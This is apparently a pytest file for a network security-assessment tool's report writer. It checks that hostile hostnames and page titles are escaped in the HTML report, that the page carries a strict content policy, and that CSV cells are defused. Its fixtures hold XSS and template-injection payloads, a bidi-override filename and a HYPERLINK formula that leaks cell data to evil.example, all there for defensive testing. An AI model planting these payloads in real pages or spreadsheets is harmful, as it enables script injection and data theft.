"""The agency report writer: document shapes, hostile network text, both languages, CSV safety.

No network and no root: the sweep is built by hand, with a router whose hostname, page title
and SNMP description carry the kind of text an attacker can put on the LAN.
"""

from __future__ import annotations

import csv
import json
import os
import re
import stat
from collections.abc import Iterable
from datetime import UTC, datetime
from html.parser import HTMLParser
from importlib import resources
from pathlib import Path
from typing import Any

import pytest

import secposture.report.outputs.files as report
from inventory.store import ACTIVE, MISSING, STALE
from secposture.assess.selfassessment import AnswerValue
from secposture.config.loading import parse_config
from secposture.config.sections import AgencyConfig, Level, Profile
from secposture.model.i18n import messages
from secposture.model.records import (
    Attempt,
    AttemptStatus,
    ChangeKind,
    Finding,
    Host,
    Observation,
    Reason,
    Service,
    Severity,
    Status,
    SweepResult,
    Target,
)
from secposture.model.score import Score
from secposture.report.outputs.files import (
    findings_csv,
    findings_document,
    format_time,
    inventory_document,
    render_html,
    write_outputs,
)
from secposture.report.view.page import DEVICE_FACTS, DEVICE_TYPES
from secposture.scoring.score import ItemStatus, score_findings

XSS = "<script>alert('xss')</script> Router admin"
IMG = '"><img src=x onerror=alert(1)>'
SSTI = "{{7*7}}"
PWNED = '<p id="pwned">pwned</p><script>document.title="PWNED"</script>'
RTL = "invoice\u202egpj.exe"
LONG = "A" * 5000
BROKEN = "bad\udcff\ud800utf8"  # invalid UTF-8 read with surrogateescape, and a lone surrogate
HOSTILE_TITLE = f"{XSS} {IMG} {SSTI} {PWNED}"
HOSTNAME = f"{XSS}{IMG}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT_TEXT, SCRIPT_HASH = report.inventory_script()
# Written out here, not taken from the code: this is the policy the page must carry.
CSP = (
    "default-src 'none'; style-src 'unsafe-inline'; img-src data:; "
    f"script-src {SCRIPT_HASH}; base-uri 'none'; form-action 'none'"
)
STARTED = datetime(2026, 11, 27, 19, 0, tzinfo=UTC)  # 02:00 on 28/11 in Vietnam


# --- sample sweep (also used by test_report_browser.py) ------------------------------------


def agency_config(tmp_path: Path, lang: str = "vi") -> AgencyConfig:
    return parse_config(
        {
            "agency": {
                "id": "hb-xa-hoa-binh",
                "name": "UBND xã Hòa Bình",
                "level": "commune",
                "parent": "hb-tinh",
            },
            "scan": {"scopes": ["192.168.1.0/24"]},
            "store": {"path": str(tmp_path / "store.json")},
            "report": {"dir": str(tmp_path / "out"), "lang": lang},
        }
    )


def hostile_sweep(*, complete: bool = False) -> SweepResult:
    router = Host(
        ip="192.168.1.1",
        mac="aa:bb:cc:00:00:01",
        vendor="MikroTik",
        hostname=HOSTNAME,
        services=(
            Service(port=161, proto="udp", name="snmp"),
            Service(port=80, name="http", product="lighttpd", version="1.4.59"),
            Service(port=23, name="telnet", product=RTL),
        ),
        ports_scanned=True,
        udp_scanned=(161,),
    )
    hosts = (
        Host(ip="192.168.1.100", hostname=LONG, ports_scanned=True),
        router,
        Host(
            ip="192.168.1.20",
            hostname=BROKEN,
            ports_scanned=True,
            services=(Service(port=22, name="ssh", product="OpenSSH", version="9.2p1"),),
        ),
        Host(ip="192.168.1.5", mac="aa:bb:cc:00:00:05"),
    )
    observations = (
        Observation(
            kind="http.title", ip="192.168.1.1", port=80, proto="tcp", data={"title": HOSTILE_TITLE}
        ),
        Observation(
            kind="snmp.community",
            ip="192.168.1.1",
            port=161,
            proto="udp",
            data={"community": "public", "accepted": True, "sysdescr": PWNED},
        ),
    )
    attempts = (
        Attempt(stage="discovery", target="192.168.1.0/24", status=AttemptStatus.COMPLETED),
        Attempt(
            stage="portscan",
            target="192.168.1.5",
            status=AttemptStatus.ERROR,
            reason=Reason.TIMEOUT,
            detail="host timeout after 300 s",
        ),
    )
    return SweepResult(
        sweep_id="sw-20261128-0200",
        agency_id="hb-xa-hoa-binh",
        profile="standard",
        scopes=("192.168.1.0/24",),
        started=STARTED,
        finished=STARTED.replace(minute=42),
        hosts=hosts,
        observations=observations,
        attempts=attempts,
        complete=complete,
    )


def hostile_findings() -> list[Finding]:
    def finding(
        check: str,
        status: Status,
        severity: Severity,
        ip: str,
        port: int | None = None,
        proto: str | None = None,
        **extra: str,
    ) -> Finding:
        return Finding(
            check_id=check,
            status=status,
            severity=severity,
            target=Target(ip=ip, port=port, proto=proto),
            **extra,
        )

    return [
        finding(
            "net.telnet_exposed",
            Status.FAIL,
            Severity.HIGH,
            "192.168.1.1",
            23,
            "tcp",
            evidence=f"telnet open on 23/tcp ({RTL})",
        ),
        finding(
            "net.http_admin_cleartext",
            Status.FAIL,
            Severity.MEDIUM,
            "192.168.1.1",
            80,
            "tcp",
            evidence=f"management page over cleartext HTTP, title: {HOSTILE_TITLE}",
        ),
        finding(
            "net.snmp_default_community",
            Status.FAIL,
            Severity.HIGH,
            "192.168.1.1",
            161,
            "udp",
            evidence=FORMULA,
        ),
        finding(
            "net.ftp_anonymous",
            Status.FAIL,
            Severity.HIGH,
            "192.168.1.100",
            21,
            "tcp",
            evidence=f"anonymous login allowed, listing: {LONG}",
        ),
        finding(
            "net.telnet_exposed",
            Status.PASS,
            Severity.HIGH,
            "192.168.1.20",
            evidence="no telnet service among open TCP ports",
        ),
        finding(
            "net.snmp_default_community",
            Status.PASS,
            Severity.HIGH,
            "192.168.1.100",
            161,
            "udp",
            evidence=f"no answer to default communities {LONG}",
        ),
        finding(
            "net.telnet_exposed",
            Status.NOT_ASSESSED,
            Severity.HIGH,
            "192.168.1.5",
            reason="port scan of this host did not complete",
        ),
        finding(
            "net.ftp_anonymous",
            Status.NOT_APPLICABLE,
            Severity.HIGH,
            "192.168.1.20",
            reason="no FTP service",
        ),
        finding(
            "net.telnet_exposed",
            Status.WAIVED,
            Severity.HIGH,
            "192.168.1.100",
            waiver="Công văn 12/UBND: thiết bị cũ, thay thế trong quý 1",
        ),
    ]


# --- reading a page back -------------------------------------------------------------------


BLOCKS = frozenset(
    ("p", "div", "li", "td", "th", "tr", "dt", "dd", "br", "h1", "h2", "h3", "h4", "section", "nav")
)


class Page(HTMLParser):
    """Tags, attributes and visible text of a page, and the text of each <section id=…>."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.chunks: list[str] = []
        self.sections: dict[str, list[str]] = {}
        self._section: str | None = None
        self._in_style = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag in BLOCKS:
            self.handle_data(" ")  # as a reader sees it: cells and lines stay apart
        if tag == "section":
            self._section = dict(attrs).get("id")
            self.sections[self._section or ""] = []
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        if tag == "section":
            self._section = None
        if tag == "style":
            self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            return
        self.chunks.append(data)
        if self._section is not None:
            self.sections[self._section].append(data)

    @property
    def text(self) -> str:
        return " ".join("".join(self.chunks).split())

    def section(self, section_id: str) -> str:
        return " ".join("".join(self.sections[section_id]).split())


@pytest.fixture()
def written(tmp_path: Path) -> report.ReportPaths:
    sweep, findings = hostile_sweep(), hostile_findings()
    return write_outputs(
        sweep, findings, score_findings(findings), agency_config(tmp_path), tmp_path / "out"
    )


def load(path: Path) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(path.read_text("utf-8"))
    return document


# --- documents -----------------------------------------------------------------------------


def test_write_outputs_writes_the_documents_with_exactly_the_agreed_keys(
    written: report.ReportPaths,
) -> None:
    # Given a sweep with hosts, findings and a failed attempt, written to a report dir
    inventory = load(written.inventory_json)
    findings = load(written.findings_json)

    # Then every file exists and each document has exactly the keys other code relies on
    assert {p.name for p in written.html.parent.iterdir()} == {
        "report.html",
        "findings.json",
        "inventory.json",
        "findings.csv",
    }
    assert set(inventory) == {"agency", "sweep_id", "generated", "hosts"}
    assert {tuple(sorted(h)) for h in inventory["hosts"]} == {
        ("hostname", "ip", "mac", "services", "vendor")
    }
    services = [s for h in inventory["hosts"] for s in h["services"]]
    assert {tuple(sorted(s)) for s in services} == {
        ("name", "port", "product", "proto", "state", "version")
    }
    assert set(findings) == {
        "agency",
        "sweep_id",
        "generated",
        "score",
        "findings",
        "attempts",
        "posture",
    }
    assert findings["posture"] is None  # no framework posture was given to this report
    assert set(findings["score"]) == {"overall", "coverage", "assessed", "applicable"}
    assert {tuple(sorted(f)) for f in findings["findings"]} == {
        ("check_id", "evidence", "reason", "severity", "status", "target", "waiver")
    }
    assert {tuple(sorted(f["target"])) for f in findings["findings"]} == {("ip", "port", "proto")}
    assert [set(a) for a in findings["attempts"]] == [
        {"stage", "target", "status", "reason", "detail"}
    ]
    assert inventory["agency"] == findings["agency"] == "hb-xa-hoa-binh"
    assert inventory["generated"] == findings["generated"]
    assert datetime.fromisoformat(findings["generated"]).tzinfo is not None


def test_inventory_sorts_hosts_numerically_and_services_by_proto_then_port() -> None:
    document = inventory_document(hostile_sweep(), "hb-xa-hoa-binh")

    assert [h["ip"] for h in document["hosts"]] == [
        "192.168.1.1",
        "192.168.1.5",
        "192.168.1.20",
        "192.168.1.100",
    ]
    router = document["hosts"][0]
    assert [(s["proto"], s["port"]) for s in router["services"]] == [
        ("tcp", 23),
        ("tcp", 80),
        ("udp", 161),
    ]
    # Unknown is null, not an empty string
    assert document["hosts"][1] == {
        "ip": "192.168.1.5",
        "mac": "aa:bb:cc:00:00:05",
        "vendor": None,
        "hostname": None,
        "services": [],
    }
    assert router["services"][2]["product"] is None


def test_findings_document_lists_every_finding_the_score_and_only_failed_attempts() -> None:
    findings = hostile_findings()
    score = score_findings(findings)

    document = findings_document(hostile_sweep(), findings, score, "hb-xa-hoa-binh")

    assert len(document["findings"]) == len(findings)
    assert document["score"] == {
        "overall": score.overall,
        "coverage": score.coverage,
        "assessed": score.assessed,
        "applicable": score.applicable,
    }
    assert document["attempts"] == [
        {
            "stage": "portscan",
            "target": "192.168.1.5",
            "status": "error",
            "reason": "timeout",
            "detail": "host timeout after 300 s",
        }
    ]
    statuses = {(f["check_id"], f["target"]["ip"]): f["status"] for f in document["findings"]}
    assert statuses[("net.telnet_exposed", "192.168.1.5")] == "not_assessed"


def test_json_documents_replace_invalid_utf8_instead_of_failing(
    written: report.ReportPaths,
) -> None:
    hostnames = [h["hostname"] for h in load(written.inventory_json)["hosts"]]

    assert "bad\ufffd\ufffdutf8" in hostnames
    assert HOSTNAME in hostnames  # JSON keeps network text as it was, for machines


# --- the page: hostile text ----------------------------------------------------------------


def test_hostile_network_text_is_shown_as_text_and_never_becomes_markup(
    written: report.ReportPaths,
) -> None:
    html = written.html.read_text("utf-8")
    page = Page(html)

    # The payloads are visible to the reader, word for word...
    for payload in (XSS, IMG, SSTI, PWNED):
        assert payload in page.text
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt; Router admin" in html
    # ...and none of them made an element or an attribute: the one script is the page's own
    assert len(re.findall(r"<script", html, re.IGNORECASE)) == 1
    assert f"<script>{SCRIPT_TEXT}</script>" in html
    assert [tag for tag, _ in page.tags].count("script") == 1
    assert not any(tag in ("img", "iframe", "object", "svg") for tag, _ in page.tags)
    assert not any(name.startswith("on") for _, attrs in page.tags for name in attrs)
    assert not any(attrs.get("id") == "pwned" for _, attrs in page.tags)
    assert re.search(r"<[^>]*onerror=", html) is None


def test_bidi_overrides_and_broken_utf8_are_made_visible(written: report.ReportPaths) -> None:
    html = written.html.read_text("utf-8")

    # U+202E would reverse the rest of the line on screen; it is named instead
    assert "\u202e" not in html
    assert "invoice[U+202E]gpj.exe" in html
    assert "bad\ufffd\ufffdutf8" in html


def test_very_long_network_strings_are_cut_and_can_wrap(written: report.ReportPaths) -> None:
    html = written.html.read_text("utf-8")
    page = Page(html)

    # Evidence is cut at MAX_SHOWN characters, a hostname at MAX_NAME; each says what is left
    evidence = "A" * (report.MAX_SHOWN - len("anonymous login allowed, listing: "))
    assert f"{evidence}… (còn 3034 ký tự, xem đầy đủ trong tệp JSON)" in page.section("issues")
    hostname = "A" * report.MAX_NAME
    assert f"{hostname}… (còn 4744 ký tự" in page.section("inventory")
    assert "A" * (report.MAX_SHOWN + 1) not in html
    # and what is shown wraps instead of widening the page
    assert "overflow-wrap: anywhere" in html


def test_page_is_self_contained_and_forbids_scripts(written: report.ReportPaths) -> None:
    html = written.html.read_text("utf-8")
    page = Page(html)

    metas = [attrs for tag, attrs in page.tags if tag == "meta"]
    assert {"http-equiv": "Content-Security-Policy", "content": CSP} in metas
    assert {"charset": "utf-8"} in metas
    # Nothing is fetched: no src at all, links only to anchors in the page, no CSS imports
    for tag, attrs in page.tags:
        assert "src" not in attrs, tag
        assert tag not in ("link", "base", "iframe", "object", "embed", "form")
        assert (attrs.get("href") or "#").startswith("#"), attrs
        assert not any("http" in (value or "") for value in attrs.values()), attrs
    style = html[html.index("<style>") : html.index("</style>")]
    assert "url(" not in style
    assert "@import" not in style
    assert "@font-face" not in style
    assert "@media print" in style


# --- the page: content ---------------------------------------------------------------------


def test_vietnamese_report_has_its_own_labels_times_and_check_texts(tmp_path: Path) -> None:
    findings = hostile_findings()

    html = render_html(
        hostile_sweep(),
        findings,
        score_findings(findings),
        agency_config(tmp_path),
        "vi",
        generated=datetime(2026, 11, 27, 19, 5, tzinfo=UTC),
    )
    page = Page(html)

    assert '<html lang="vi">' in html
    assert "Vấn đề cần khắc phục" in page.text
    assert "Issues to fix" not in page.text
    assert "Dịch vụ Telnet (không mã hóa) đang mở" in page.text
    assert "Tắt Telnet trên thiết bị" in page.text  # remediation from the check catalogue
    assert "UBND xã Hòa Bình" in page.text
    assert "Cấp xã" in page.text
    assert "28/11/2026 02:00 – 02:42" in page.text  # sweep time in Vietnam time
    assert "28/11/2026 02:05" in page.text  # generated


def test_english_report_has_its_own_labels_times_and_check_texts(tmp_path: Path) -> None:
    findings = hostile_findings()

    html = render_html(
        hostile_sweep(), findings, score_findings(findings), agency_config(tmp_path), "en"
    )
    page = Page(html)

    assert '<html lang="en">' in html
    assert "Issues to fix" in page.text
    assert "Vấn đề cần khắc phục" not in page.text
    assert "Telnet (cleartext) service exposed" in page.text
    assert "2026-11-27 19:00 – 19:42 UTC" in page.text


def test_write_outputs_takes_the_language_from_config_unless_told(tmp_path: Path) -> None:
    findings = hostile_findings()
    config = agency_config(tmp_path, lang="en")

    paths = write_outputs(
        hostile_sweep(), findings, score_findings(findings), config, tmp_path / "en"
    )
    override = write_outputs(
        hostile_sweep(), findings, score_findings(findings), config, tmp_path / "vi", lang="vi"
    )

    assert '<html lang="en">' in paths.html.read_text("utf-8")
    assert '<html lang="vi">' in override.html.read_text("utf-8")


@pytest.mark.parametrize(
    ("lang", "overall", "expected"),
    [
        ("vi", 62.0, "Điểm 62/100 · độ bao phủ 85%"),
        ("vi", 62.5, "Điểm 62,5/100 · độ bao phủ 85%"),
        ("en", 62.5, "Score 62.5/100 · coverage 85%"),
    ],
)
def test_summary_shows_the_score_with_coverage_beside_it(
    tmp_path: Path, lang: str, overall: float, expected: str
) -> None:
    score = Score(overall=overall, coverage=0.853, assessed=17, applicable=20, counts={})

    page = Page(render_html(hostile_sweep(), [], score, agency_config(tmp_path), lang))

    assert expected in page.section("summary")


def test_summary_says_when_no_score_could_be_computed(tmp_path: Path) -> None:
    findings = [f for f in hostile_findings() if f.status is Status.NOT_ASSESSED]
    score = score_findings(findings)
    assert score.overall is None

    page = Page(render_html(hostile_sweep(), findings, score, agency_config(tmp_path), "vi"))

    assert "Không tính được điểm" in page.section("summary")
    assert "độ bao phủ 0%" in page.section("summary")


def test_summary_counts_issues_by_severity_and_warns_of_an_incomplete_sweep(
    tmp_path: Path,
) -> None:
    findings = hostile_findings()
    config = agency_config(tmp_path)

    incomplete = Page(
        render_html(hostile_sweep(complete=False), findings, score_findings(findings), config, "vi")
    )
    complete = Page(
        render_html(hostile_sweep(complete=True), findings, score_findings(findings), config, "vi")
    )

    summary = incomplete.section("summary")
    assert "Lượt quét chưa đầy đủ" in summary
    assert "Có 1 bước quét không hoàn thành" in summary
    assert "Nghiêm trọng 0 Cao 3 Trung bình 1 Thấp 0" in summary
    assert "Lượt quét chưa đầy đủ" not in complete.text


def test_issues_are_grouped_by_severity_with_target_evidence_and_remediation(
    tmp_path: Path,
) -> None:
    findings = hostile_findings()

    page = Page(
        render_html(
            hostile_sweep(), findings, score_findings(findings), agency_config(tmp_path), "vi"
        )
    )
    issues = page.section("issues")

    assert issues.index("Cao") < issues.index("Trung bình")
    assert "192.168.1.1:23/tcp" in issues
    assert "192.168.1.1:161/udp" in issues
    assert "Đổi hoặc xóa community mặc định" in issues
    # Passed, not-assessed and waived findings are not issues
    assert "192.168.1.20" not in issues
    assert "192.168.1.5" not in issues


def test_not_assessed_section_shows_every_reason_and_every_failed_attempt(
    tmp_path: Path,
) -> None:
    findings = hostile_findings()

    page = Page(
        render_html(
            hostile_sweep(), findings, score_findings(findings), agency_config(tmp_path), "vi"
        )
    )
    section = page.section("not-assessed")

    assert (
        "Dịch vụ Telnet (không mã hóa) đang mở chưa quét xong các cổng của thiết bị này "
        "192.168.1.5" in section
    )
    assert "portscan 192.168.1.5 Lỗi Hết thời gian chờ host timeout after 300 s" in section
    assert "discovery" not in section  # completed attempts are not listed


def test_passed_waived_and_inventory_are_listed(tmp_path: Path) -> None:
    findings = hostile_findings()

    page = Page(
        render_html(
            hostile_sweep(), findings, score_findings(findings), agency_config(tmp_path), "vi"
        )
    )

    # Passes are folded into one line per check, with every target that passed
    assert "Dịch vụ Telnet (không mã hóa) đang mở 1 192.168.1.20" in page.section("passed")
    assert "Công văn 12/UBND" in page.section("passed")
    inventory = page.section("inventory")
    assert inventory.index("192.168.1.1 ") < inventory.index("192.168.1.5 ")
    assert inventory.index("192.168.1.5 ") < inventory.index("192.168.1.20 ")
    assert "22/tcp ssh OpenSSH 9.2p1" in inventory
    assert "Chưa quét được cổng" in inventory  # 192.168.1.5: no port scan, not "no ports"
    assert f"Tiêu đề trang: {HOSTILE_TITLE}" in inventory
    assert f"Mô tả SNMP: {PWNED}" in inventory


def test_a_finding_of_a_check_missing_from_the_catalogue_still_renders(tmp_path: Path) -> None:
    finding = Finding(
        check_id="net.not_yet_catalogued",
        status=Status.FAIL,
        severity=Severity.LOW,
        target=Target(ip="10.0.0.1"),
    )

    html = render_html(
        hostile_sweep(), [finding], score_findings([finding]), agency_config(tmp_path), "vi"
    )

    assert "net.not_yet_catalogued" in Page(html).section("issues")


def test_times_follow_the_reader_language() -> None:
    moment = datetime(2026, 11, 27, 19, 0, tzinfo=UTC)

    assert format_time(moment, "vi") == "28/11/2026 02:00"
    assert format_time(moment, "en") == "2026-11-27 19:00 UTC"
    assert format_time(datetime(2026, 11, 28, 2, 0), "en") == "2026-11-28 02:00 UTC"


# --- catalogue keys ------------------------------------------------------------------------

TEMPLATES = resources.files("templates")
# The agency report's own templates (the province pages test theirs).
REPORT_TEMPLATES = ("report.html.j2", "_styles.html.j2", "_inventory_table.js.j2")
T_CALL = re.compile(r"\bt\(")
T_KEY = re.compile(r"\bt\(\s*[\"']([a-z0-9_.]+)[\"']")
ANY_KEY = re.compile(r"[\"'](report\.[a-z0-9_.]+)[\"']")
ENUM_FAMILIES: dict[str, Iterable[str]] = {
    "report.level.": [m.value for m in Level],
    "report.profile.": [m.value for m in Profile],
    "report.severity.": [m.value for m in Severity],
    "report.status.": [m.value for m in Status],
    "report.attempt.": [m.value for m in AttemptStatus],
    "report.reason.": [m.value for m in Reason],
    "report.change.": [m.value for m in ChangeKind],
    "report.pillar.": [m.value for m in ItemStatus],
    "report.answer.": [m.value.replace("n/a", "na") for m in AnswerValue],
    "report.device_status.": [ACTIVE, MISSING, STALE],
    "report.device.": [key for key in DEVICE_FACTS if key != "hostname"],
    "report.device_type.": list(DEVICE_TYPES),
}


def template_sources() -> dict[str, str]:
    return {name: TEMPLATES.joinpath(name).read_text("utf-8") for name in REPORT_TEMPLATES}


def test_every_label_the_template_uses_exists_in_both_languages() -> None:
    catalogue = messages()
    for name, source in template_sources().items():
        keys = T_KEY.findall(source)
        # Only literal keys, so that this test sees every one of them (the not_available
        # macro's t(key) gets its key as a literal at each call, which ANY_KEY finds)
        macro_calls = len(re.findall(r"\bt\(key\)", source))
        assert len(keys) + macro_calls == len(T_CALL.findall(source)), name
        for key in [*keys, *ANY_KEY.findall(source)]:
            assert key in catalogue, f"{name}: {key}"
            assert catalogue[key]["vi"] and catalogue[key]["en"], key


def test_every_enum_shown_in_the_report_has_a_label_in_both_languages() -> None:
    catalogue = messages()
    for prefix, values in ENUM_FAMILIES.items():
        for value in values:
            assert f"{prefix}{value}" in catalogue


def test_every_report_label_is_used() -> None:
    sources = " ".join(template_sources().values())
    used = set(T_KEY.findall(sources)) | set(ANY_KEY.findall(sources))
    package = Path(report.__file__).parents[1]
    modules = [*sorted(package.rglob("*.py")), package.parent / "cli" / "report.py"]
    assert len(modules) > 5, "the report package's modules were not found"
    for module in modules:
        used |= set(ANY_KEY.findall(module.read_text("utf-8")))
    report_keys = {key for key in messages() if key.startswith("report.")}
    unused = {
        key
        for key in report_keys - used
        if not any(key.startswith(prefix) for prefix in ENUM_FAMILIES)
    }
    assert unused == set()


def test_vietnamese_labels_are_vietnamese() -> None:
    catalogue = messages()
    vietnamese = [catalogue[k]["vi"] for k in catalogue if k.startswith("report.")]
    assert catalogue["report.title"]["vi"] != catalogue["report.title"]["en"]
    assert any("ệ" in text or "ạ" in text for text in vietnamese)


# --- CSV -----------------------------------------------------------------------------------


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_has_one_row_per_finding_in_the_chosen_language(
    written: report.ReportPaths,
) -> None:
    rows = read_csv(written.findings_csv)

    assert written.findings_csv.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM for Excel
    assert list(rows[0]) == list(report.CSV_COLUMNS)
    assert len(rows) == len(hostile_findings())
    telnet = next(r for r in rows if r["check_id"] == "net.telnet_exposed" and r["port"] == "23")
    assert telnet["title"] == "Dịch vụ Telnet (không mã hóa) đang mở"
    assert telnet["remediation"].startswith("Tắt Telnet")
    assert telnet["status"] == "fail"
    assert telnet["severity"] == "high"
    assert telnet["proto"] == "tcp"


@pytest.mark.parametrize("evidence", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_csv_cells_that_a_spreadsheet_would_run_are_forced_to_text(evidence: str) -> None:
    finding = Finding(
        check_id="net.telnet_exposed",
        status=Status.FAIL,
        severity=Severity.HIGH,
        target=Target(ip="192.168.1.1"),
        evidence=evidence,
        reason=evidence,
    )

    rows = list(csv.DictReader(findings_csv([finding], "vi").splitlines()))

    for cell in (rows[0]["evidence"], rows[0]["reason"]):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert cell.startswith("'") or cell.startswith("[U+000D]")


def test_csv_leaves_ordinary_evidence_alone() -> None:
    finding = Finding(
        check_id="net.telnet_exposed",
        status=Status.PASS,
        severity=Severity.HIGH,
        target=Target(ip="192.168.1.1"),
        evidence="no telnet service",
    )

    rows = list(csv.DictReader(findings_csv([finding], "en").splitlines()))

    assert rows[0]["evidence"] == "no telnet service"
    assert rows[0]["title"] == "Telnet (cleartext) service exposed"


# --- writing -------------------------------------------------------------------------------


def test_rewriting_replaces_files_and_leaves_no_temporary_files(tmp_path: Path) -> None:
    findings = hostile_findings()
    out = tmp_path / "out"
    config = agency_config(tmp_path)

    write_outputs(hostile_sweep(), findings, score_findings(findings), config, out)
    paths = write_outputs(hostile_sweep(), findings[:1], score_findings(findings[:1]), config, out)

    assert sorted(p.name for p in out.iterdir()) == [
        "findings.csv",
        "findings.json",
        "inventory.json",
        "report.html",
    ]
    assert len(load(paths.findings_json)["findings"]) == 1
    assert stat.S_IMODE(paths.html.stat().st_mode) == report.REPORT_MODE


def test_a_failed_write_keeps_the_previous_file_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a report already written
    findings = hostile_findings()
    out = tmp_path / "out"
    config = agency_config(tmp_path)
    paths = write_outputs(hostile_sweep(), findings, score_findings(findings), config, out)
    before = paths.findings_json.read_bytes()

    # When the next write fails at the moment the new file would take its place
    def fail(src: str, dst: str) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(OSError, match="disk full"):
        write_outputs(hostile_sweep(), [], score_findings([]), config, out)

    # Then the old file is intact and no temporary file is left behind
    assert paths.findings_json.read_bytes() == before
    assert sorted(p.name for p in out.iterdir()) == [
        "findings.csv",
        "findings.json",
        "inventory.json",
        "report.html",
    ]


def test_unknown_language_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="fr"):
        render_html(hostile_sweep(), [], score_findings([]), agency_config(tmp_path), "fr")
